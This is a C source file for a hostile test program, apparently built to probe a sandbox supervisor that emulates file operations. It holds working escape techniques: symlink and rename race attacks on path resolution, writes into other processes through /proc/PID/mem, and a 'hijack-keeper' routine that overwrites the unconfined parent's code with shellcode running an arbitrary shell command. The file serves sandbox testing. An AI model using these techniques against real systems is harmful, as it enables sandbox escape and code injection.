/* racer: a hostile target that races the supervisor's emulation of opens,
 * renames and links, and reaches around it.  Each op prints
 * "<op> = <value>" or "<op> = -1 <ERRNO-NAME>", as sys does; ops chain.
 * Races run a bounded number of tries and stop at the first success.
 *
 *   dotdot MODE FROM TO PATH CHECK N
 *       A thread renames directory FROM to TO and back (or, when TO
 *       exists, swaps them with RENAME_EXCHANGE) while this one makes
 *       N calls on PATH, which climbs out of FROM with "..": once FROM is
 *       moved, its ".." is another directory.  MODE: open (O_WRONLY|O_CREAT),
 *       read (O_RDONLY), stat, rename:SRC (SRC made anew, renamed to PATH),
 *       link:SRC.  Stops at the first call that reached CHECK: CHECK
 *       exists after it (open, rename, link), the bytes read start with
 *       "SECRET" (read), st_ino is CHECK, a number (stat).  Prints 1 if
 *       one did, else 0.
 *   flip LINK ALT OP PATH CHECK N [SRC]
 *       A thread swaps LINK and ALT (renameat2 RENAME_EXCHANGE: a symlink
 *       or directory leading inside, and one leading outside) while this
 *       one makes N calls OP on PATH (which goes through LINK):
 *       open (O_WRONLY|O_CREAT), read (O_RDONLY), rename (SRC made anew,
 *       renamed to PATH), link (SRC made, linked as PATH), opath (O_PATH,
 *       then a raw fstat), access (X_OK: only CHECK's object is executable).
 *       Stops at the first call that reached CHECK, as dotdot (opath:
 *       st_ino is CHECK; access: X_OK granted); prints 1 if one did, else 0.
 *   plant LINK TO OP CHECK N
 *       A thread makes LINK a symlink to TO and removes it, again and again,
 *       while this one makes N calls OP on LINK: truncate (to 0; counts
 *       CHECK found empty), setxattr (user.racer; counts CHECK having it),
 *       getxattr (counts a user.racer read from LINK that starts "SECRET"),
 *       link (linkat LINK to CHECK, AT_SYMLINK_FOLLOW; counts CHECK made
 *       a hard link of TO), open (O_WRONLY|O_CREAT, writes a byte; counts
 *       CHECK's size changed).  Stops at the first; prints 1 if one did.
 *   open PATH [FLAGS]     open(PATH, FLAGS (default O_WRONLY|O_CREAT), 0644)
 *   read PATH             open O_RDONLY and read: "read = SECRET" or the count
 *   openat FD NAME        openat(FD, NAME, O_WRONLY|O_CREAT)
 *   openat2 PATH RESOLVE  openat2(AT_FDCWD, PATH, O_WRONLY|O_CREAT, RESOLVE)
 *   rename OLD NEW   link OLD NEW   chdir DIR   chroot DIR   unshare FLAGS
 *   setxattr PATH VALUE   user.racer = VALUE
 *   tmpfile DIR NEW       O_TMPFILE in DIR, linked as NEW (AT_EMPTY_PATH),
 *                         then as NEW.2 through /proc/self/fd (AT_SYMLINK_FOLLOW)
 *   fdops PATH            on an O_RDONLY fd of PATH: fchmod 0777, fchown 0 0,
 *                         fsetxattr user.racer, FS_IOC_SETFLAGS +nodump
 *   core DIR              a child in DIR, RLIMIT_CORE unlimited, dies of SIGSEGV
 *   poke PID ADDR         open /proc/PID/mem O_RDWR, write "PWNED!!" at ADDR
 *   poke-parent           open /proc/PPID/mem O_RDWR (the keeper)
 *   hijack-keeper CMD     rewrite the keeper's code (/proc/PPID/maps and mem,
 *                         both opened O_RDWR) to run sh -c CMD when it wakes
 *   victim FILE SECONDS   (run outside) a buffer "AAAAAAA", "PID ADDR" in FILE;
 *                         prints "victim = 1" if it changed within SECONDS
 *                         (or before FILE was removed), else "victim = 0"
 *   fifo-hold FIFO OTHER  a thread opens FIFO O_WRONLY (no reader: it blocks);
 *                         then OTHER is opened O_WRONLY|O_CREAT: prints how
 *                         many ms that took; then exits at once
 *   fifo-flood DIR N OTHER  N threads open DIR/p0..p(N-1) O_WRONLY (FIFOs);
 *                         then as fifo-hold
 *   setsid-tty            a child leaves the session (setsid), opens /dev/tty
 *   badptr                opens on unmapped and unterminated paths, openat2
 *                         with a bad struct
 *   deep N                N nested 200-byte directories, ending in the deepest
 *   sleep MS   exit N
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <linux/openat2.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <time.h>
#include <unistd.h>

#include "report.h"

#ifndef SYS_openat2
#define SYS_openat2 437
#endif
#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

static long num(const char *s)
{
	return (long)strtoull(s, NULL, 0);
}

static double now_ms(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec * 1e3 + (double)ts.tv_nsec / 1e6;
}

/* Reads the start of FD: whether it is the secret. */
static bool secret(int fd)
{
	char buf[16] = { 0 };

	return read(fd, buf, 6) == 6 && memcmp(buf, "SECRET", 6) == 0;
}

/* ---- the racing threads ---- */

static volatile int stop;
static const char *race_a, *race_b;

static void *renamer(void *arg)
{
	(void)arg;
	while (!stop) {
		rename(race_a, race_b);
		rename(race_b, race_a);
	}
	return NULL;
}

static void *exchanger(void *arg)
{
	(void)arg;
	while (!stop)
		syscall(SYS_renameat2, AT_FDCWD, race_a, AT_FDCWD, race_b, RENAME_EXCHANGE);
	return NULL;
}

static void race_start(pthread_t *t, void *(*fn)(void *), const char *a, const char *b)
{
	stop = 0;
	race_a = a;
	race_b = b;
	pthread_create(t, NULL, fn, NULL);
}

static void race_stop(pthread_t t)
{
	stop = 1;
	pthread_join(t, NULL);
}

/* dotdot MODE FROM TO PATH CHECK N */
static int dotdot(char **a)
{
	const char *mode = a[1], *path = a[4], *check = a[5];
	const char *src = strchr(mode, ':') ? strchr(mode, ':') + 1 : NULL;
	long n = num(a[6]), hits = 0, tries = 0;
	struct stat st;
	pthread_t t;

	/* A TO that exists is swapped with FROM (RENAME_EXCHANGE): every swap
	 * moves the directory a walk may be in. */
	race_start(&t, stat(a[3], &st) == 0 ? exchanger : renamer, a[2], a[3]);
	for (; tries < n && !hits; tries++) {
		int fd;

		if (!strcmp(mode, "read")) {
			fd = open(path, O_RDONLY | O_CLOEXEC);
			if (fd >= 0) {
				hits += secret(fd);
				close(fd);
			}
		} else if (!strcmp(mode, "stat")) {
			hits += stat(path, &st) == 0 && st.st_ino == (ino_t)num(check);
		} else if (!strncmp(mode, "rename:", 7) || !strncmp(mode, "link:", 5)) {
			fd = open(src, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
			if (fd >= 0)
				close(fd);
			if ((mode[0] == 'r' ? rename(src, path) : link(src, path)) == 0)
				hits += stat(check, &st) == 0;
		} else {
			fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
			if (fd >= 0) {
				hits += stat(check, &st) == 0;
				close(fd);
			}
		}
	}
	race_stop(t);
	rename(a[3], a[2]); /* (back in place, if it was away) */
	fprintf(stderr, "dotdot: %ld tries\n", tries);
	report("dotdot", hits);
	return 7;
}

/* flip LINK ALT OP PATH CHECK N [SRC] */
static int flip(char **a)
{
	const char *op = a[3], *path = a[4], *check = a[5], *src = a[7];
	long n = num(a[6]), hits = 0;
	bool has_src = !strcmp(op, "rename") || !strcmp(op, "link");
	struct stat st;
	pthread_t t;

	race_start(&t, exchanger, a[1], a[2]);
	for (long i = 0; i < n && !hits; i++) {
		int fd;

		if (!strcmp(op, "open")) {
			fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
			if (fd >= 0)
				close(fd);
		} else if (!strcmp(op, "read")) {
			fd = open(path, O_RDONLY | O_CLOEXEC);
			if (fd >= 0) {
				hits += secret(fd);
				close(fd);
			}
			continue;
		} else if (!strcmp(op, "access")) {
			hits += access(path, X_OK) == 0;
			continue;
		} else if (!strcmp(op, "opath")) {
			fd = open(path, O_PATH | O_CLOEXEC);
			if (fd >= 0) {
				if (syscall(SYS_fstat, fd, &st) == 0 && st.st_ino == (ino_t)num(check))
					hits++;
				close(fd);
			}
			continue;
		} else {
			fd = open(src, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
			if (fd >= 0)
				close(fd);
			if (!strcmp(op, "rename"))
				rename(src, path);
			else
				link(src, path);
		}
		hits += stat(check, &st) == 0;
	}
	race_stop(t);
	report("flip", hits);
	return has_src ? 8 : 7;
}

static const char *plant_link, *plant_to;

static void *planter(void *arg)
{
	(void)arg;
	while (!stop) {
		symlink(plant_to, plant_link);
		unlink(plant_link);
	}
	return NULL;
}

/* plant LINK TO OP CHECK N */
static int plant(char **a)
{
	const char *op = a[3], *check = a[4];
	long n = num(a[5]), hits = 0;
	struct stat st;
	char v[64];
	pthread_t t;

	off_t size = stat(check, &st) == 0 ? st.st_size : -1;

	plant_link = a[1];
	plant_to = a[2];
	stop = 0;
	pthread_create(&t, NULL, planter, NULL);
	for (long i = 0; i < n && !hits; i++) {
		if (!strcmp(op, "truncate")) {
			truncate(a[1], 0);
			hits += stat(check, &st) == 0 && st.st_size == 0;
		} else if (!strcmp(op, "setxattr")) {
			setxattr(a[1], "user.racer", "1", 1, 0);
			hits += getxattr(check, "user.racer", v, sizeof(v)) > 0;
		} else if (!strcmp(op, "link")) {
			struct stat to;

			if (linkat(AT_FDCWD, a[1], AT_FDCWD, check, AT_SYMLINK_FOLLOW) == 0) {
				hits += stat(check, &st) == 0 && stat(a[2], &to) == 0 &&
					st.st_ino == to.st_ino;
				unlink(check);
			}
		} else if (!strcmp(op, "getxattr")) {
			memset(v, 0, sizeof(v));
			hits += getxattr(a[1], "user.racer", v, sizeof(v)) >= 6 && !memcmp(v, "SECRET", 6);
		} else if (!strcmp(op, "open")) {
			int fd = open(a[1], O_WRONLY | O_CREAT | O_CLOEXEC, 0644);

			if (fd >= 0) {
				write(fd, "x", 1);
				close(fd);
			}
			hits += stat(check, &st) == 0 && st.st_size != size;
		}
	}
	race_stop(t);
	unlink(a[1]);
	report("plant", hits);
	return 6;
}

/* ---- single calls ---- */

static int do_open(char **a)
{
	int flags = O_WRONLY | O_CREAT;
	int fd;

	if (a[2] && (a[2][0] >= '0' && a[2][0] <= '9'))
		flags = (int)num(a[2]);
	fd = open(a[1], flags | O_CLOEXEC, 0644);
	report("open", fd < 0 ? -1 : 0);
	if (fd >= 0)
		close(fd);
	return a[2] && a[2][0] >= '0' && a[2][0] <= '9' ? 3 : 2;
}

static int do_read(char **a)
{
	int fd = open(a[1], O_RDONLY | O_CLOEXEC);
	char buf[64];
	ssize_t n;

	if (fd < 0) {
		report("read", -1);
		return 2;
	}
	n = read(fd, buf, sizeof(buf) - 1);
	close(fd);
	if (n >= 6 && memcmp(buf, "SECRET", 6) == 0)
		printf("read = SECRET\n");
	else
		report("read", n);
	fflush(stdout);
	return 2;
}

static int do_openat2(char **a)
{
	struct open_how how = { .flags = O_WRONLY | O_CREAT | O_CLOEXEC,
				.mode = 0644,
				.resolve = (uint64_t)num(a[2]) };
	long fd = syscall(SYS_openat2, AT_FDCWD, a[1], &how, sizeof(how));

	report("openat2", fd < 0 ? -1 : 0);
	if (fd >= 0)
		close((int)fd);
	return 3;
}

static int tmpfile_link(char **a)
{
	char self[64], second[4096];
	int fd = open(a[1], O_TMPFILE | O_WRONLY | O_CLOEXEC, 0644);

	report("tmpfile", fd < 0 ? -1 : 0);
	if (fd < 0)
		return 3;
	if (write(fd, "x", 1) != 1)
		report("write", -1);
	report("linkat-empty", linkat(fd, "", AT_FDCWD, a[2], AT_EMPTY_PATH));
	snprintf(self, sizeof(self), "/proc/self/fd/%d", fd);
	snprintf(second, sizeof(second), "%s.2", a[2]);
	report("linkat-proc", linkat(AT_FDCWD, self, AT_FDCWD, second, AT_SYMLINK_FOLLOW));
	close(fd);
	return 3;
}

static int fdops(char **a)
{
	int fd = open(a[1], O_RDONLY | O_CLOEXEC), flags = 0;

	report("open-rdonly", fd < 0 ? -1 : 0);
	if (fd < 0)
		return 2;
	report("fchmod", fchmod(fd, 0777));
	report("fchown", fchown(fd, 0, 0));
	report("fsetxattr", fsetxattr(fd, "user.racer", "1", 1, 0));
	if (ioctl(fd, FS_IOC_GETFLAGS, &flags) < 0) {
		report("setflags", -1);
	} else {
		flags |= FS_NODUMP_FL;
		report("setflags", ioctl(fd, FS_IOC_SETFLAGS, &flags));
	}
	close(fd);
	return 2;
}

static int core(char **a)
{
	struct rlimit rl = { RLIM_INFINITY, RLIM_INFINITY };
	int st = 0;
	pid_t pid;

	report("setrlimit", setrlimit(RLIMIT_CORE, &rl));
	pid = fork();
	if (pid == 0) {
		if (chdir(a[1]) < 0)
			_exit(1);
		signal(SIGSEGV, SIG_DFL);
		raise(SIGSEGV);
		_exit(2);
	}
	waitpid(pid, &st, 0);
	report("core", WIFSIGNALED(st) && WCOREDUMP(st));
	return 2;
}

static int poke(pid_t pid, unsigned long addr, const char *op)
{
	char path[64];
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/mem", (int)pid);
	fd = open(path, O_RDWR | O_CLOEXEC);
	report(op, fd < 0 ? -1 : 0);
	if (fd < 0)
		return -1;
	if (addr)
		report("pwrite", pwrite(fd, "PWNED!!", 7, (off_t)addr));
	close(fd);
	return 0;
}

#ifdef __x86_64__
/* execve("/bin/sh", {"/bin/sh", "-c", CMD}, NULL), position-independent;
 * CMD at sc_cmd, 256 bytes. */
extern const unsigned char sc_start[], sc_cmd[], sc_end[];
__asm__(".pushsection .rodata\n"
	"sc_start:\n"
	"	lea sc_sh(%rip), %rdi\n"
	"	lea sc_dashc(%rip), %rax\n"
	"	lea sc_cmd(%rip), %rbx\n"
	"	xor %edx, %edx\n"
	"	push %rdx\n"
	"	push %rbx\n"
	"	push %rax\n"
	"	push %rdi\n"
	"	mov %rsp, %rsi\n"
	"	mov $59, %eax\n"
	"	syscall\n"
	"	mov $60, %eax\n"
	"	xor %edi, %edi\n"
	"	syscall\n"
	"sc_sh: .asciz \"/bin/sh\"\n"
	"sc_dashc: .asciz \"-c\"\n"
	"sc_cmd: .space 256\n"
	"sc_end:\n"
	".popsection\n");

/* hijack-keeper CMD: the keeper (the parent) runs unconfined; its code,
 * rewritten through /proc/PPID/mem, runs CMD once it wakes (when this
 * command exits).  Opens with O_RDWR: emulated where writes are. */
static int hijack(char **a)
{
	char path[64], line[512];
	unsigned long lo = 0, hi = 0;
	pid_t ppid = getppid();
	unsigned char *code;
	size_t len = (size_t)(sc_end - sc_start), n;
	FILE *maps;
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/maps", (int)ppid);
	fd = open(path, O_RDWR | O_CLOEXEC);
	report("maps", fd < 0 ? -1 : 0);
	if (fd < 0 || !(maps = fdopen(fd, "r")))
		return 2;
	while (fgets(line, sizeof(line), maps))
		if (strstr(line, " r-xp ") && strstr(line, "/unotify")) {
			sscanf(line, "%lx-%lx", &lo, &hi);
			break;
		}
	fclose(maps);
	snprintf(path, sizeof(path), "/proc/%d/mem", (int)ppid);
	fd = open(path, O_RDWR | O_CLOEXEC);
	report("mem", fd < 0 ? -1 : 0);
	if (fd < 0 || !lo || hi - lo < len)
		return 2;
	n = hi - lo;
	code = malloc(n);
	memset(code, 0x90, n); /* a slide into the code at the end */
	memcpy(code + n - len, sc_start, len);
	snprintf((char *)code + n - len + (size_t)(sc_cmd - sc_start), 256, "%s", a[1]);
	report("pwrite", pwrite(fd, code, n, (off_t)lo) == (ssize_t)n ? 0 : -1);
	free(code);
	close(fd);
	return 2;
}
#else
static int hijack(char **a)
{
	(void)a;
	errno = ENOSYS;
	report("maps", -1);
	return 2;
}
#endif

static volatile char buf[16] = "AAAAAAA";

static bool changed(void)
{
	for (int i = 0; i < 7; i++)
		if (buf[i] != 'A')
			return true;
	return false;
}

static int victim(char **a)
{
	double end = now_ms() + (double)num(a[2]) * 1e3;
	FILE *f = fopen(a[1], "w");

	if (!f)
		return report("victim", -1), 3;
	fprintf(f, "%d %lu\n", (int)getpid(), (unsigned long)buf);
	fclose(f);
	while (now_ms() < end && !changed() && access(a[1], F_OK) == 0)
		usleep(10000);
	report("victim", changed());
	return 3;
}

/* ---- FIFOs ---- */

static void *fifo_thread(void *arg)
{
	int fd = open((const char *)arg, O_WRONLY | O_CLOEXEC);

	if (fd >= 0)
		close(fd);
	return NULL;
}

static __attribute__((noreturn)) int other_open(const char *other)
{
	double t0 = now_ms();
	int fd = open(other, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);

	report("other", fd < 0 ? -1 : 0);
	printf("ms = %ld\n", (long)(now_ms() - t0));
	fflush(stdout);
	_exit(0); /* with its threads still in their opens */
}

static int fifo_hold(char **a)
{
	pthread_t t;

	pthread_create(&t, NULL, fifo_thread, a[1]);
	usleep(200000);
	return other_open(a[2]);
}

static int fifo_flood(char **a)
{
	long n = num(a[2]);
	static char names[4096][64];
	pthread_attr_t attr;

	pthread_attr_init(&attr);
	pthread_attr_setstacksize(&attr, 64 * 1024);
	for (long i = 0; i < n && i < 4096; i++) {
		pthread_t t;

		snprintf(names[i], sizeof(names[i]), "%s/p%ld", a[1], i);
		if (pthread_create(&t, &attr, fifo_thread, names[i]) != 0)
			break;
	}
	usleep(500000);
	return other_open(a[3]);
}

/* ---- bad pointers ---- */

static int badptr(void)
{
	long page = sysconf(_SC_PAGESIZE);
	char *m = mmap(NULL, (size_t)page * 2, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS,
		       -1, 0);
	struct open_how how = { .flags = O_WRONLY | O_CREAT, .mode = 0644 };

	munmap(m + page, (size_t)page);
	memset(m, 'x', (size_t)page); /* no NUL before the hole */
	report("open-unmapped", syscall(SYS_open, (char *)m + page, O_WRONLY | O_CREAT, 0644));
	report("open-unterminated", syscall(SYS_open, m, O_WRONLY | O_CREAT, 0644));
	report("openat2-badhow", syscall(SYS_openat2, AT_FDCWD, "/tmp/racer-x", m + page,
					 sizeof(how)));
	report("openat2-hugesize", syscall(SYS_openat2, AT_FDCWD, "/tmp/racer-x", &how, 1 << 20));
	return 1;
}

static int deep(char **a)
{
	char name[201];

	memset(name, 'd', 200);
	name[200] = '\0';
	for (long i = 0; i < num(a[1]); i++)
		if (mkdir(name, 0755) < 0 || chdir(name) < 0) {
			report("deep", -1);
			return 2;
		}
	report("deep", 0);
	return 2;
}

static int op(char **a)
{
	if (!strcmp(a[0], "dotdot"))
		return dotdot(a);
	if (!strcmp(a[0], "flip"))
		return flip(a);
	if (!strcmp(a[0], "plant"))
		return plant(a);
	if (!strcmp(a[0], "open"))
		return do_open(a);
	if (!strcmp(a[0], "read"))
		return do_read(a);
	if (!strcmp(a[0], "openat")) {
		int fd = openat((int)num(a[1]), a[2], O_WRONLY | O_CREAT | O_CLOEXEC, 0644);

		report("openat", fd < 0 ? -1 : 0);
		return 3;
	}
	if (!strcmp(a[0], "openat2"))
		return do_openat2(a);
	if (!strcmp(a[0], "rename")) {
		report("rename", rename(a[1], a[2]));
		return 3;
	}
	if (!strcmp(a[0], "link")) {
		report("link", link(a[1], a[2]));
		return 3;
	}
	if (!strcmp(a[0], "chdir")) {
		report("chdir", chdir(a[1]));
		return 2;
	}
	if (!strcmp(a[0], "chroot")) {
		report("chroot", chroot(a[1]));
		return 2;
	}
	if (!strcmp(a[0], "unshare")) {
		report("unshare", unshare((int)num(a[1])));
		return 2;
	}
	if (!strcmp(a[0], "setxattr")) {
		report("setxattr", setxattr(a[1], "user.racer", a[2], strlen(a[2]), 0));
		return 3;
	}
	if (!strcmp(a[0], "tmpfile"))
		return tmpfile_link(a);
	if (!strcmp(a[0], "fdops"))
		return fdops(a);
	if (!strcmp(a[0], "core"))
		return core(a);
	if (!strcmp(a[0], "poke")) {
		poke((pid_t)num(a[1]), (unsigned long)num(a[2]), "poke");
		return 3;
	}
	if (!strcmp(a[0], "poke-parent")) {
		poke(getppid(), 0, "poke-parent");
		return 1;
	}
	if (!strcmp(a[0], "victim"))
		return victim(a);
	if (!strcmp(a[0], "hijack-keeper"))
		return hijack(a);
	if (!strcmp(a[0], "fifo-hold"))
		return fifo_hold(a);
	if (!strcmp(a[0], "fifo-flood"))
		return fifo_flood(a);
	if (!strcmp(a[0], "setsid-tty")) {
		pid_t pid = fork();
		int fd;

		if (pid == 0) {
			setsid();
			fd = open("/dev/tty", O_WRONLY | O_CLOEXEC);
			report("tty", fd < 0 ? -1 : 0);
			_exit(0);
		}
		waitpid(pid, NULL, 0);
		return 1;
	}
	if (!strcmp(a[0], "badptr"))
		return badptr();
	if (!strcmp(a[0], "deep"))
		return deep(a);
	if (!strcmp(a[0], "sleep")) {
		usleep((useconds_t)num(a[1]) * 1000);
		return 2;
	}
	if (!strcmp(a[0], "exit"))
		exit((int)num(a[1]));
	fprintf(stderr, "racer: unknown op %s\n", a[0]);
	exit(99);
}

int main(int argc, char **argv)
{
	(void)argc;
	for (char **a = argv + 1; *a;)
		a += op(a);
	return 0;
}
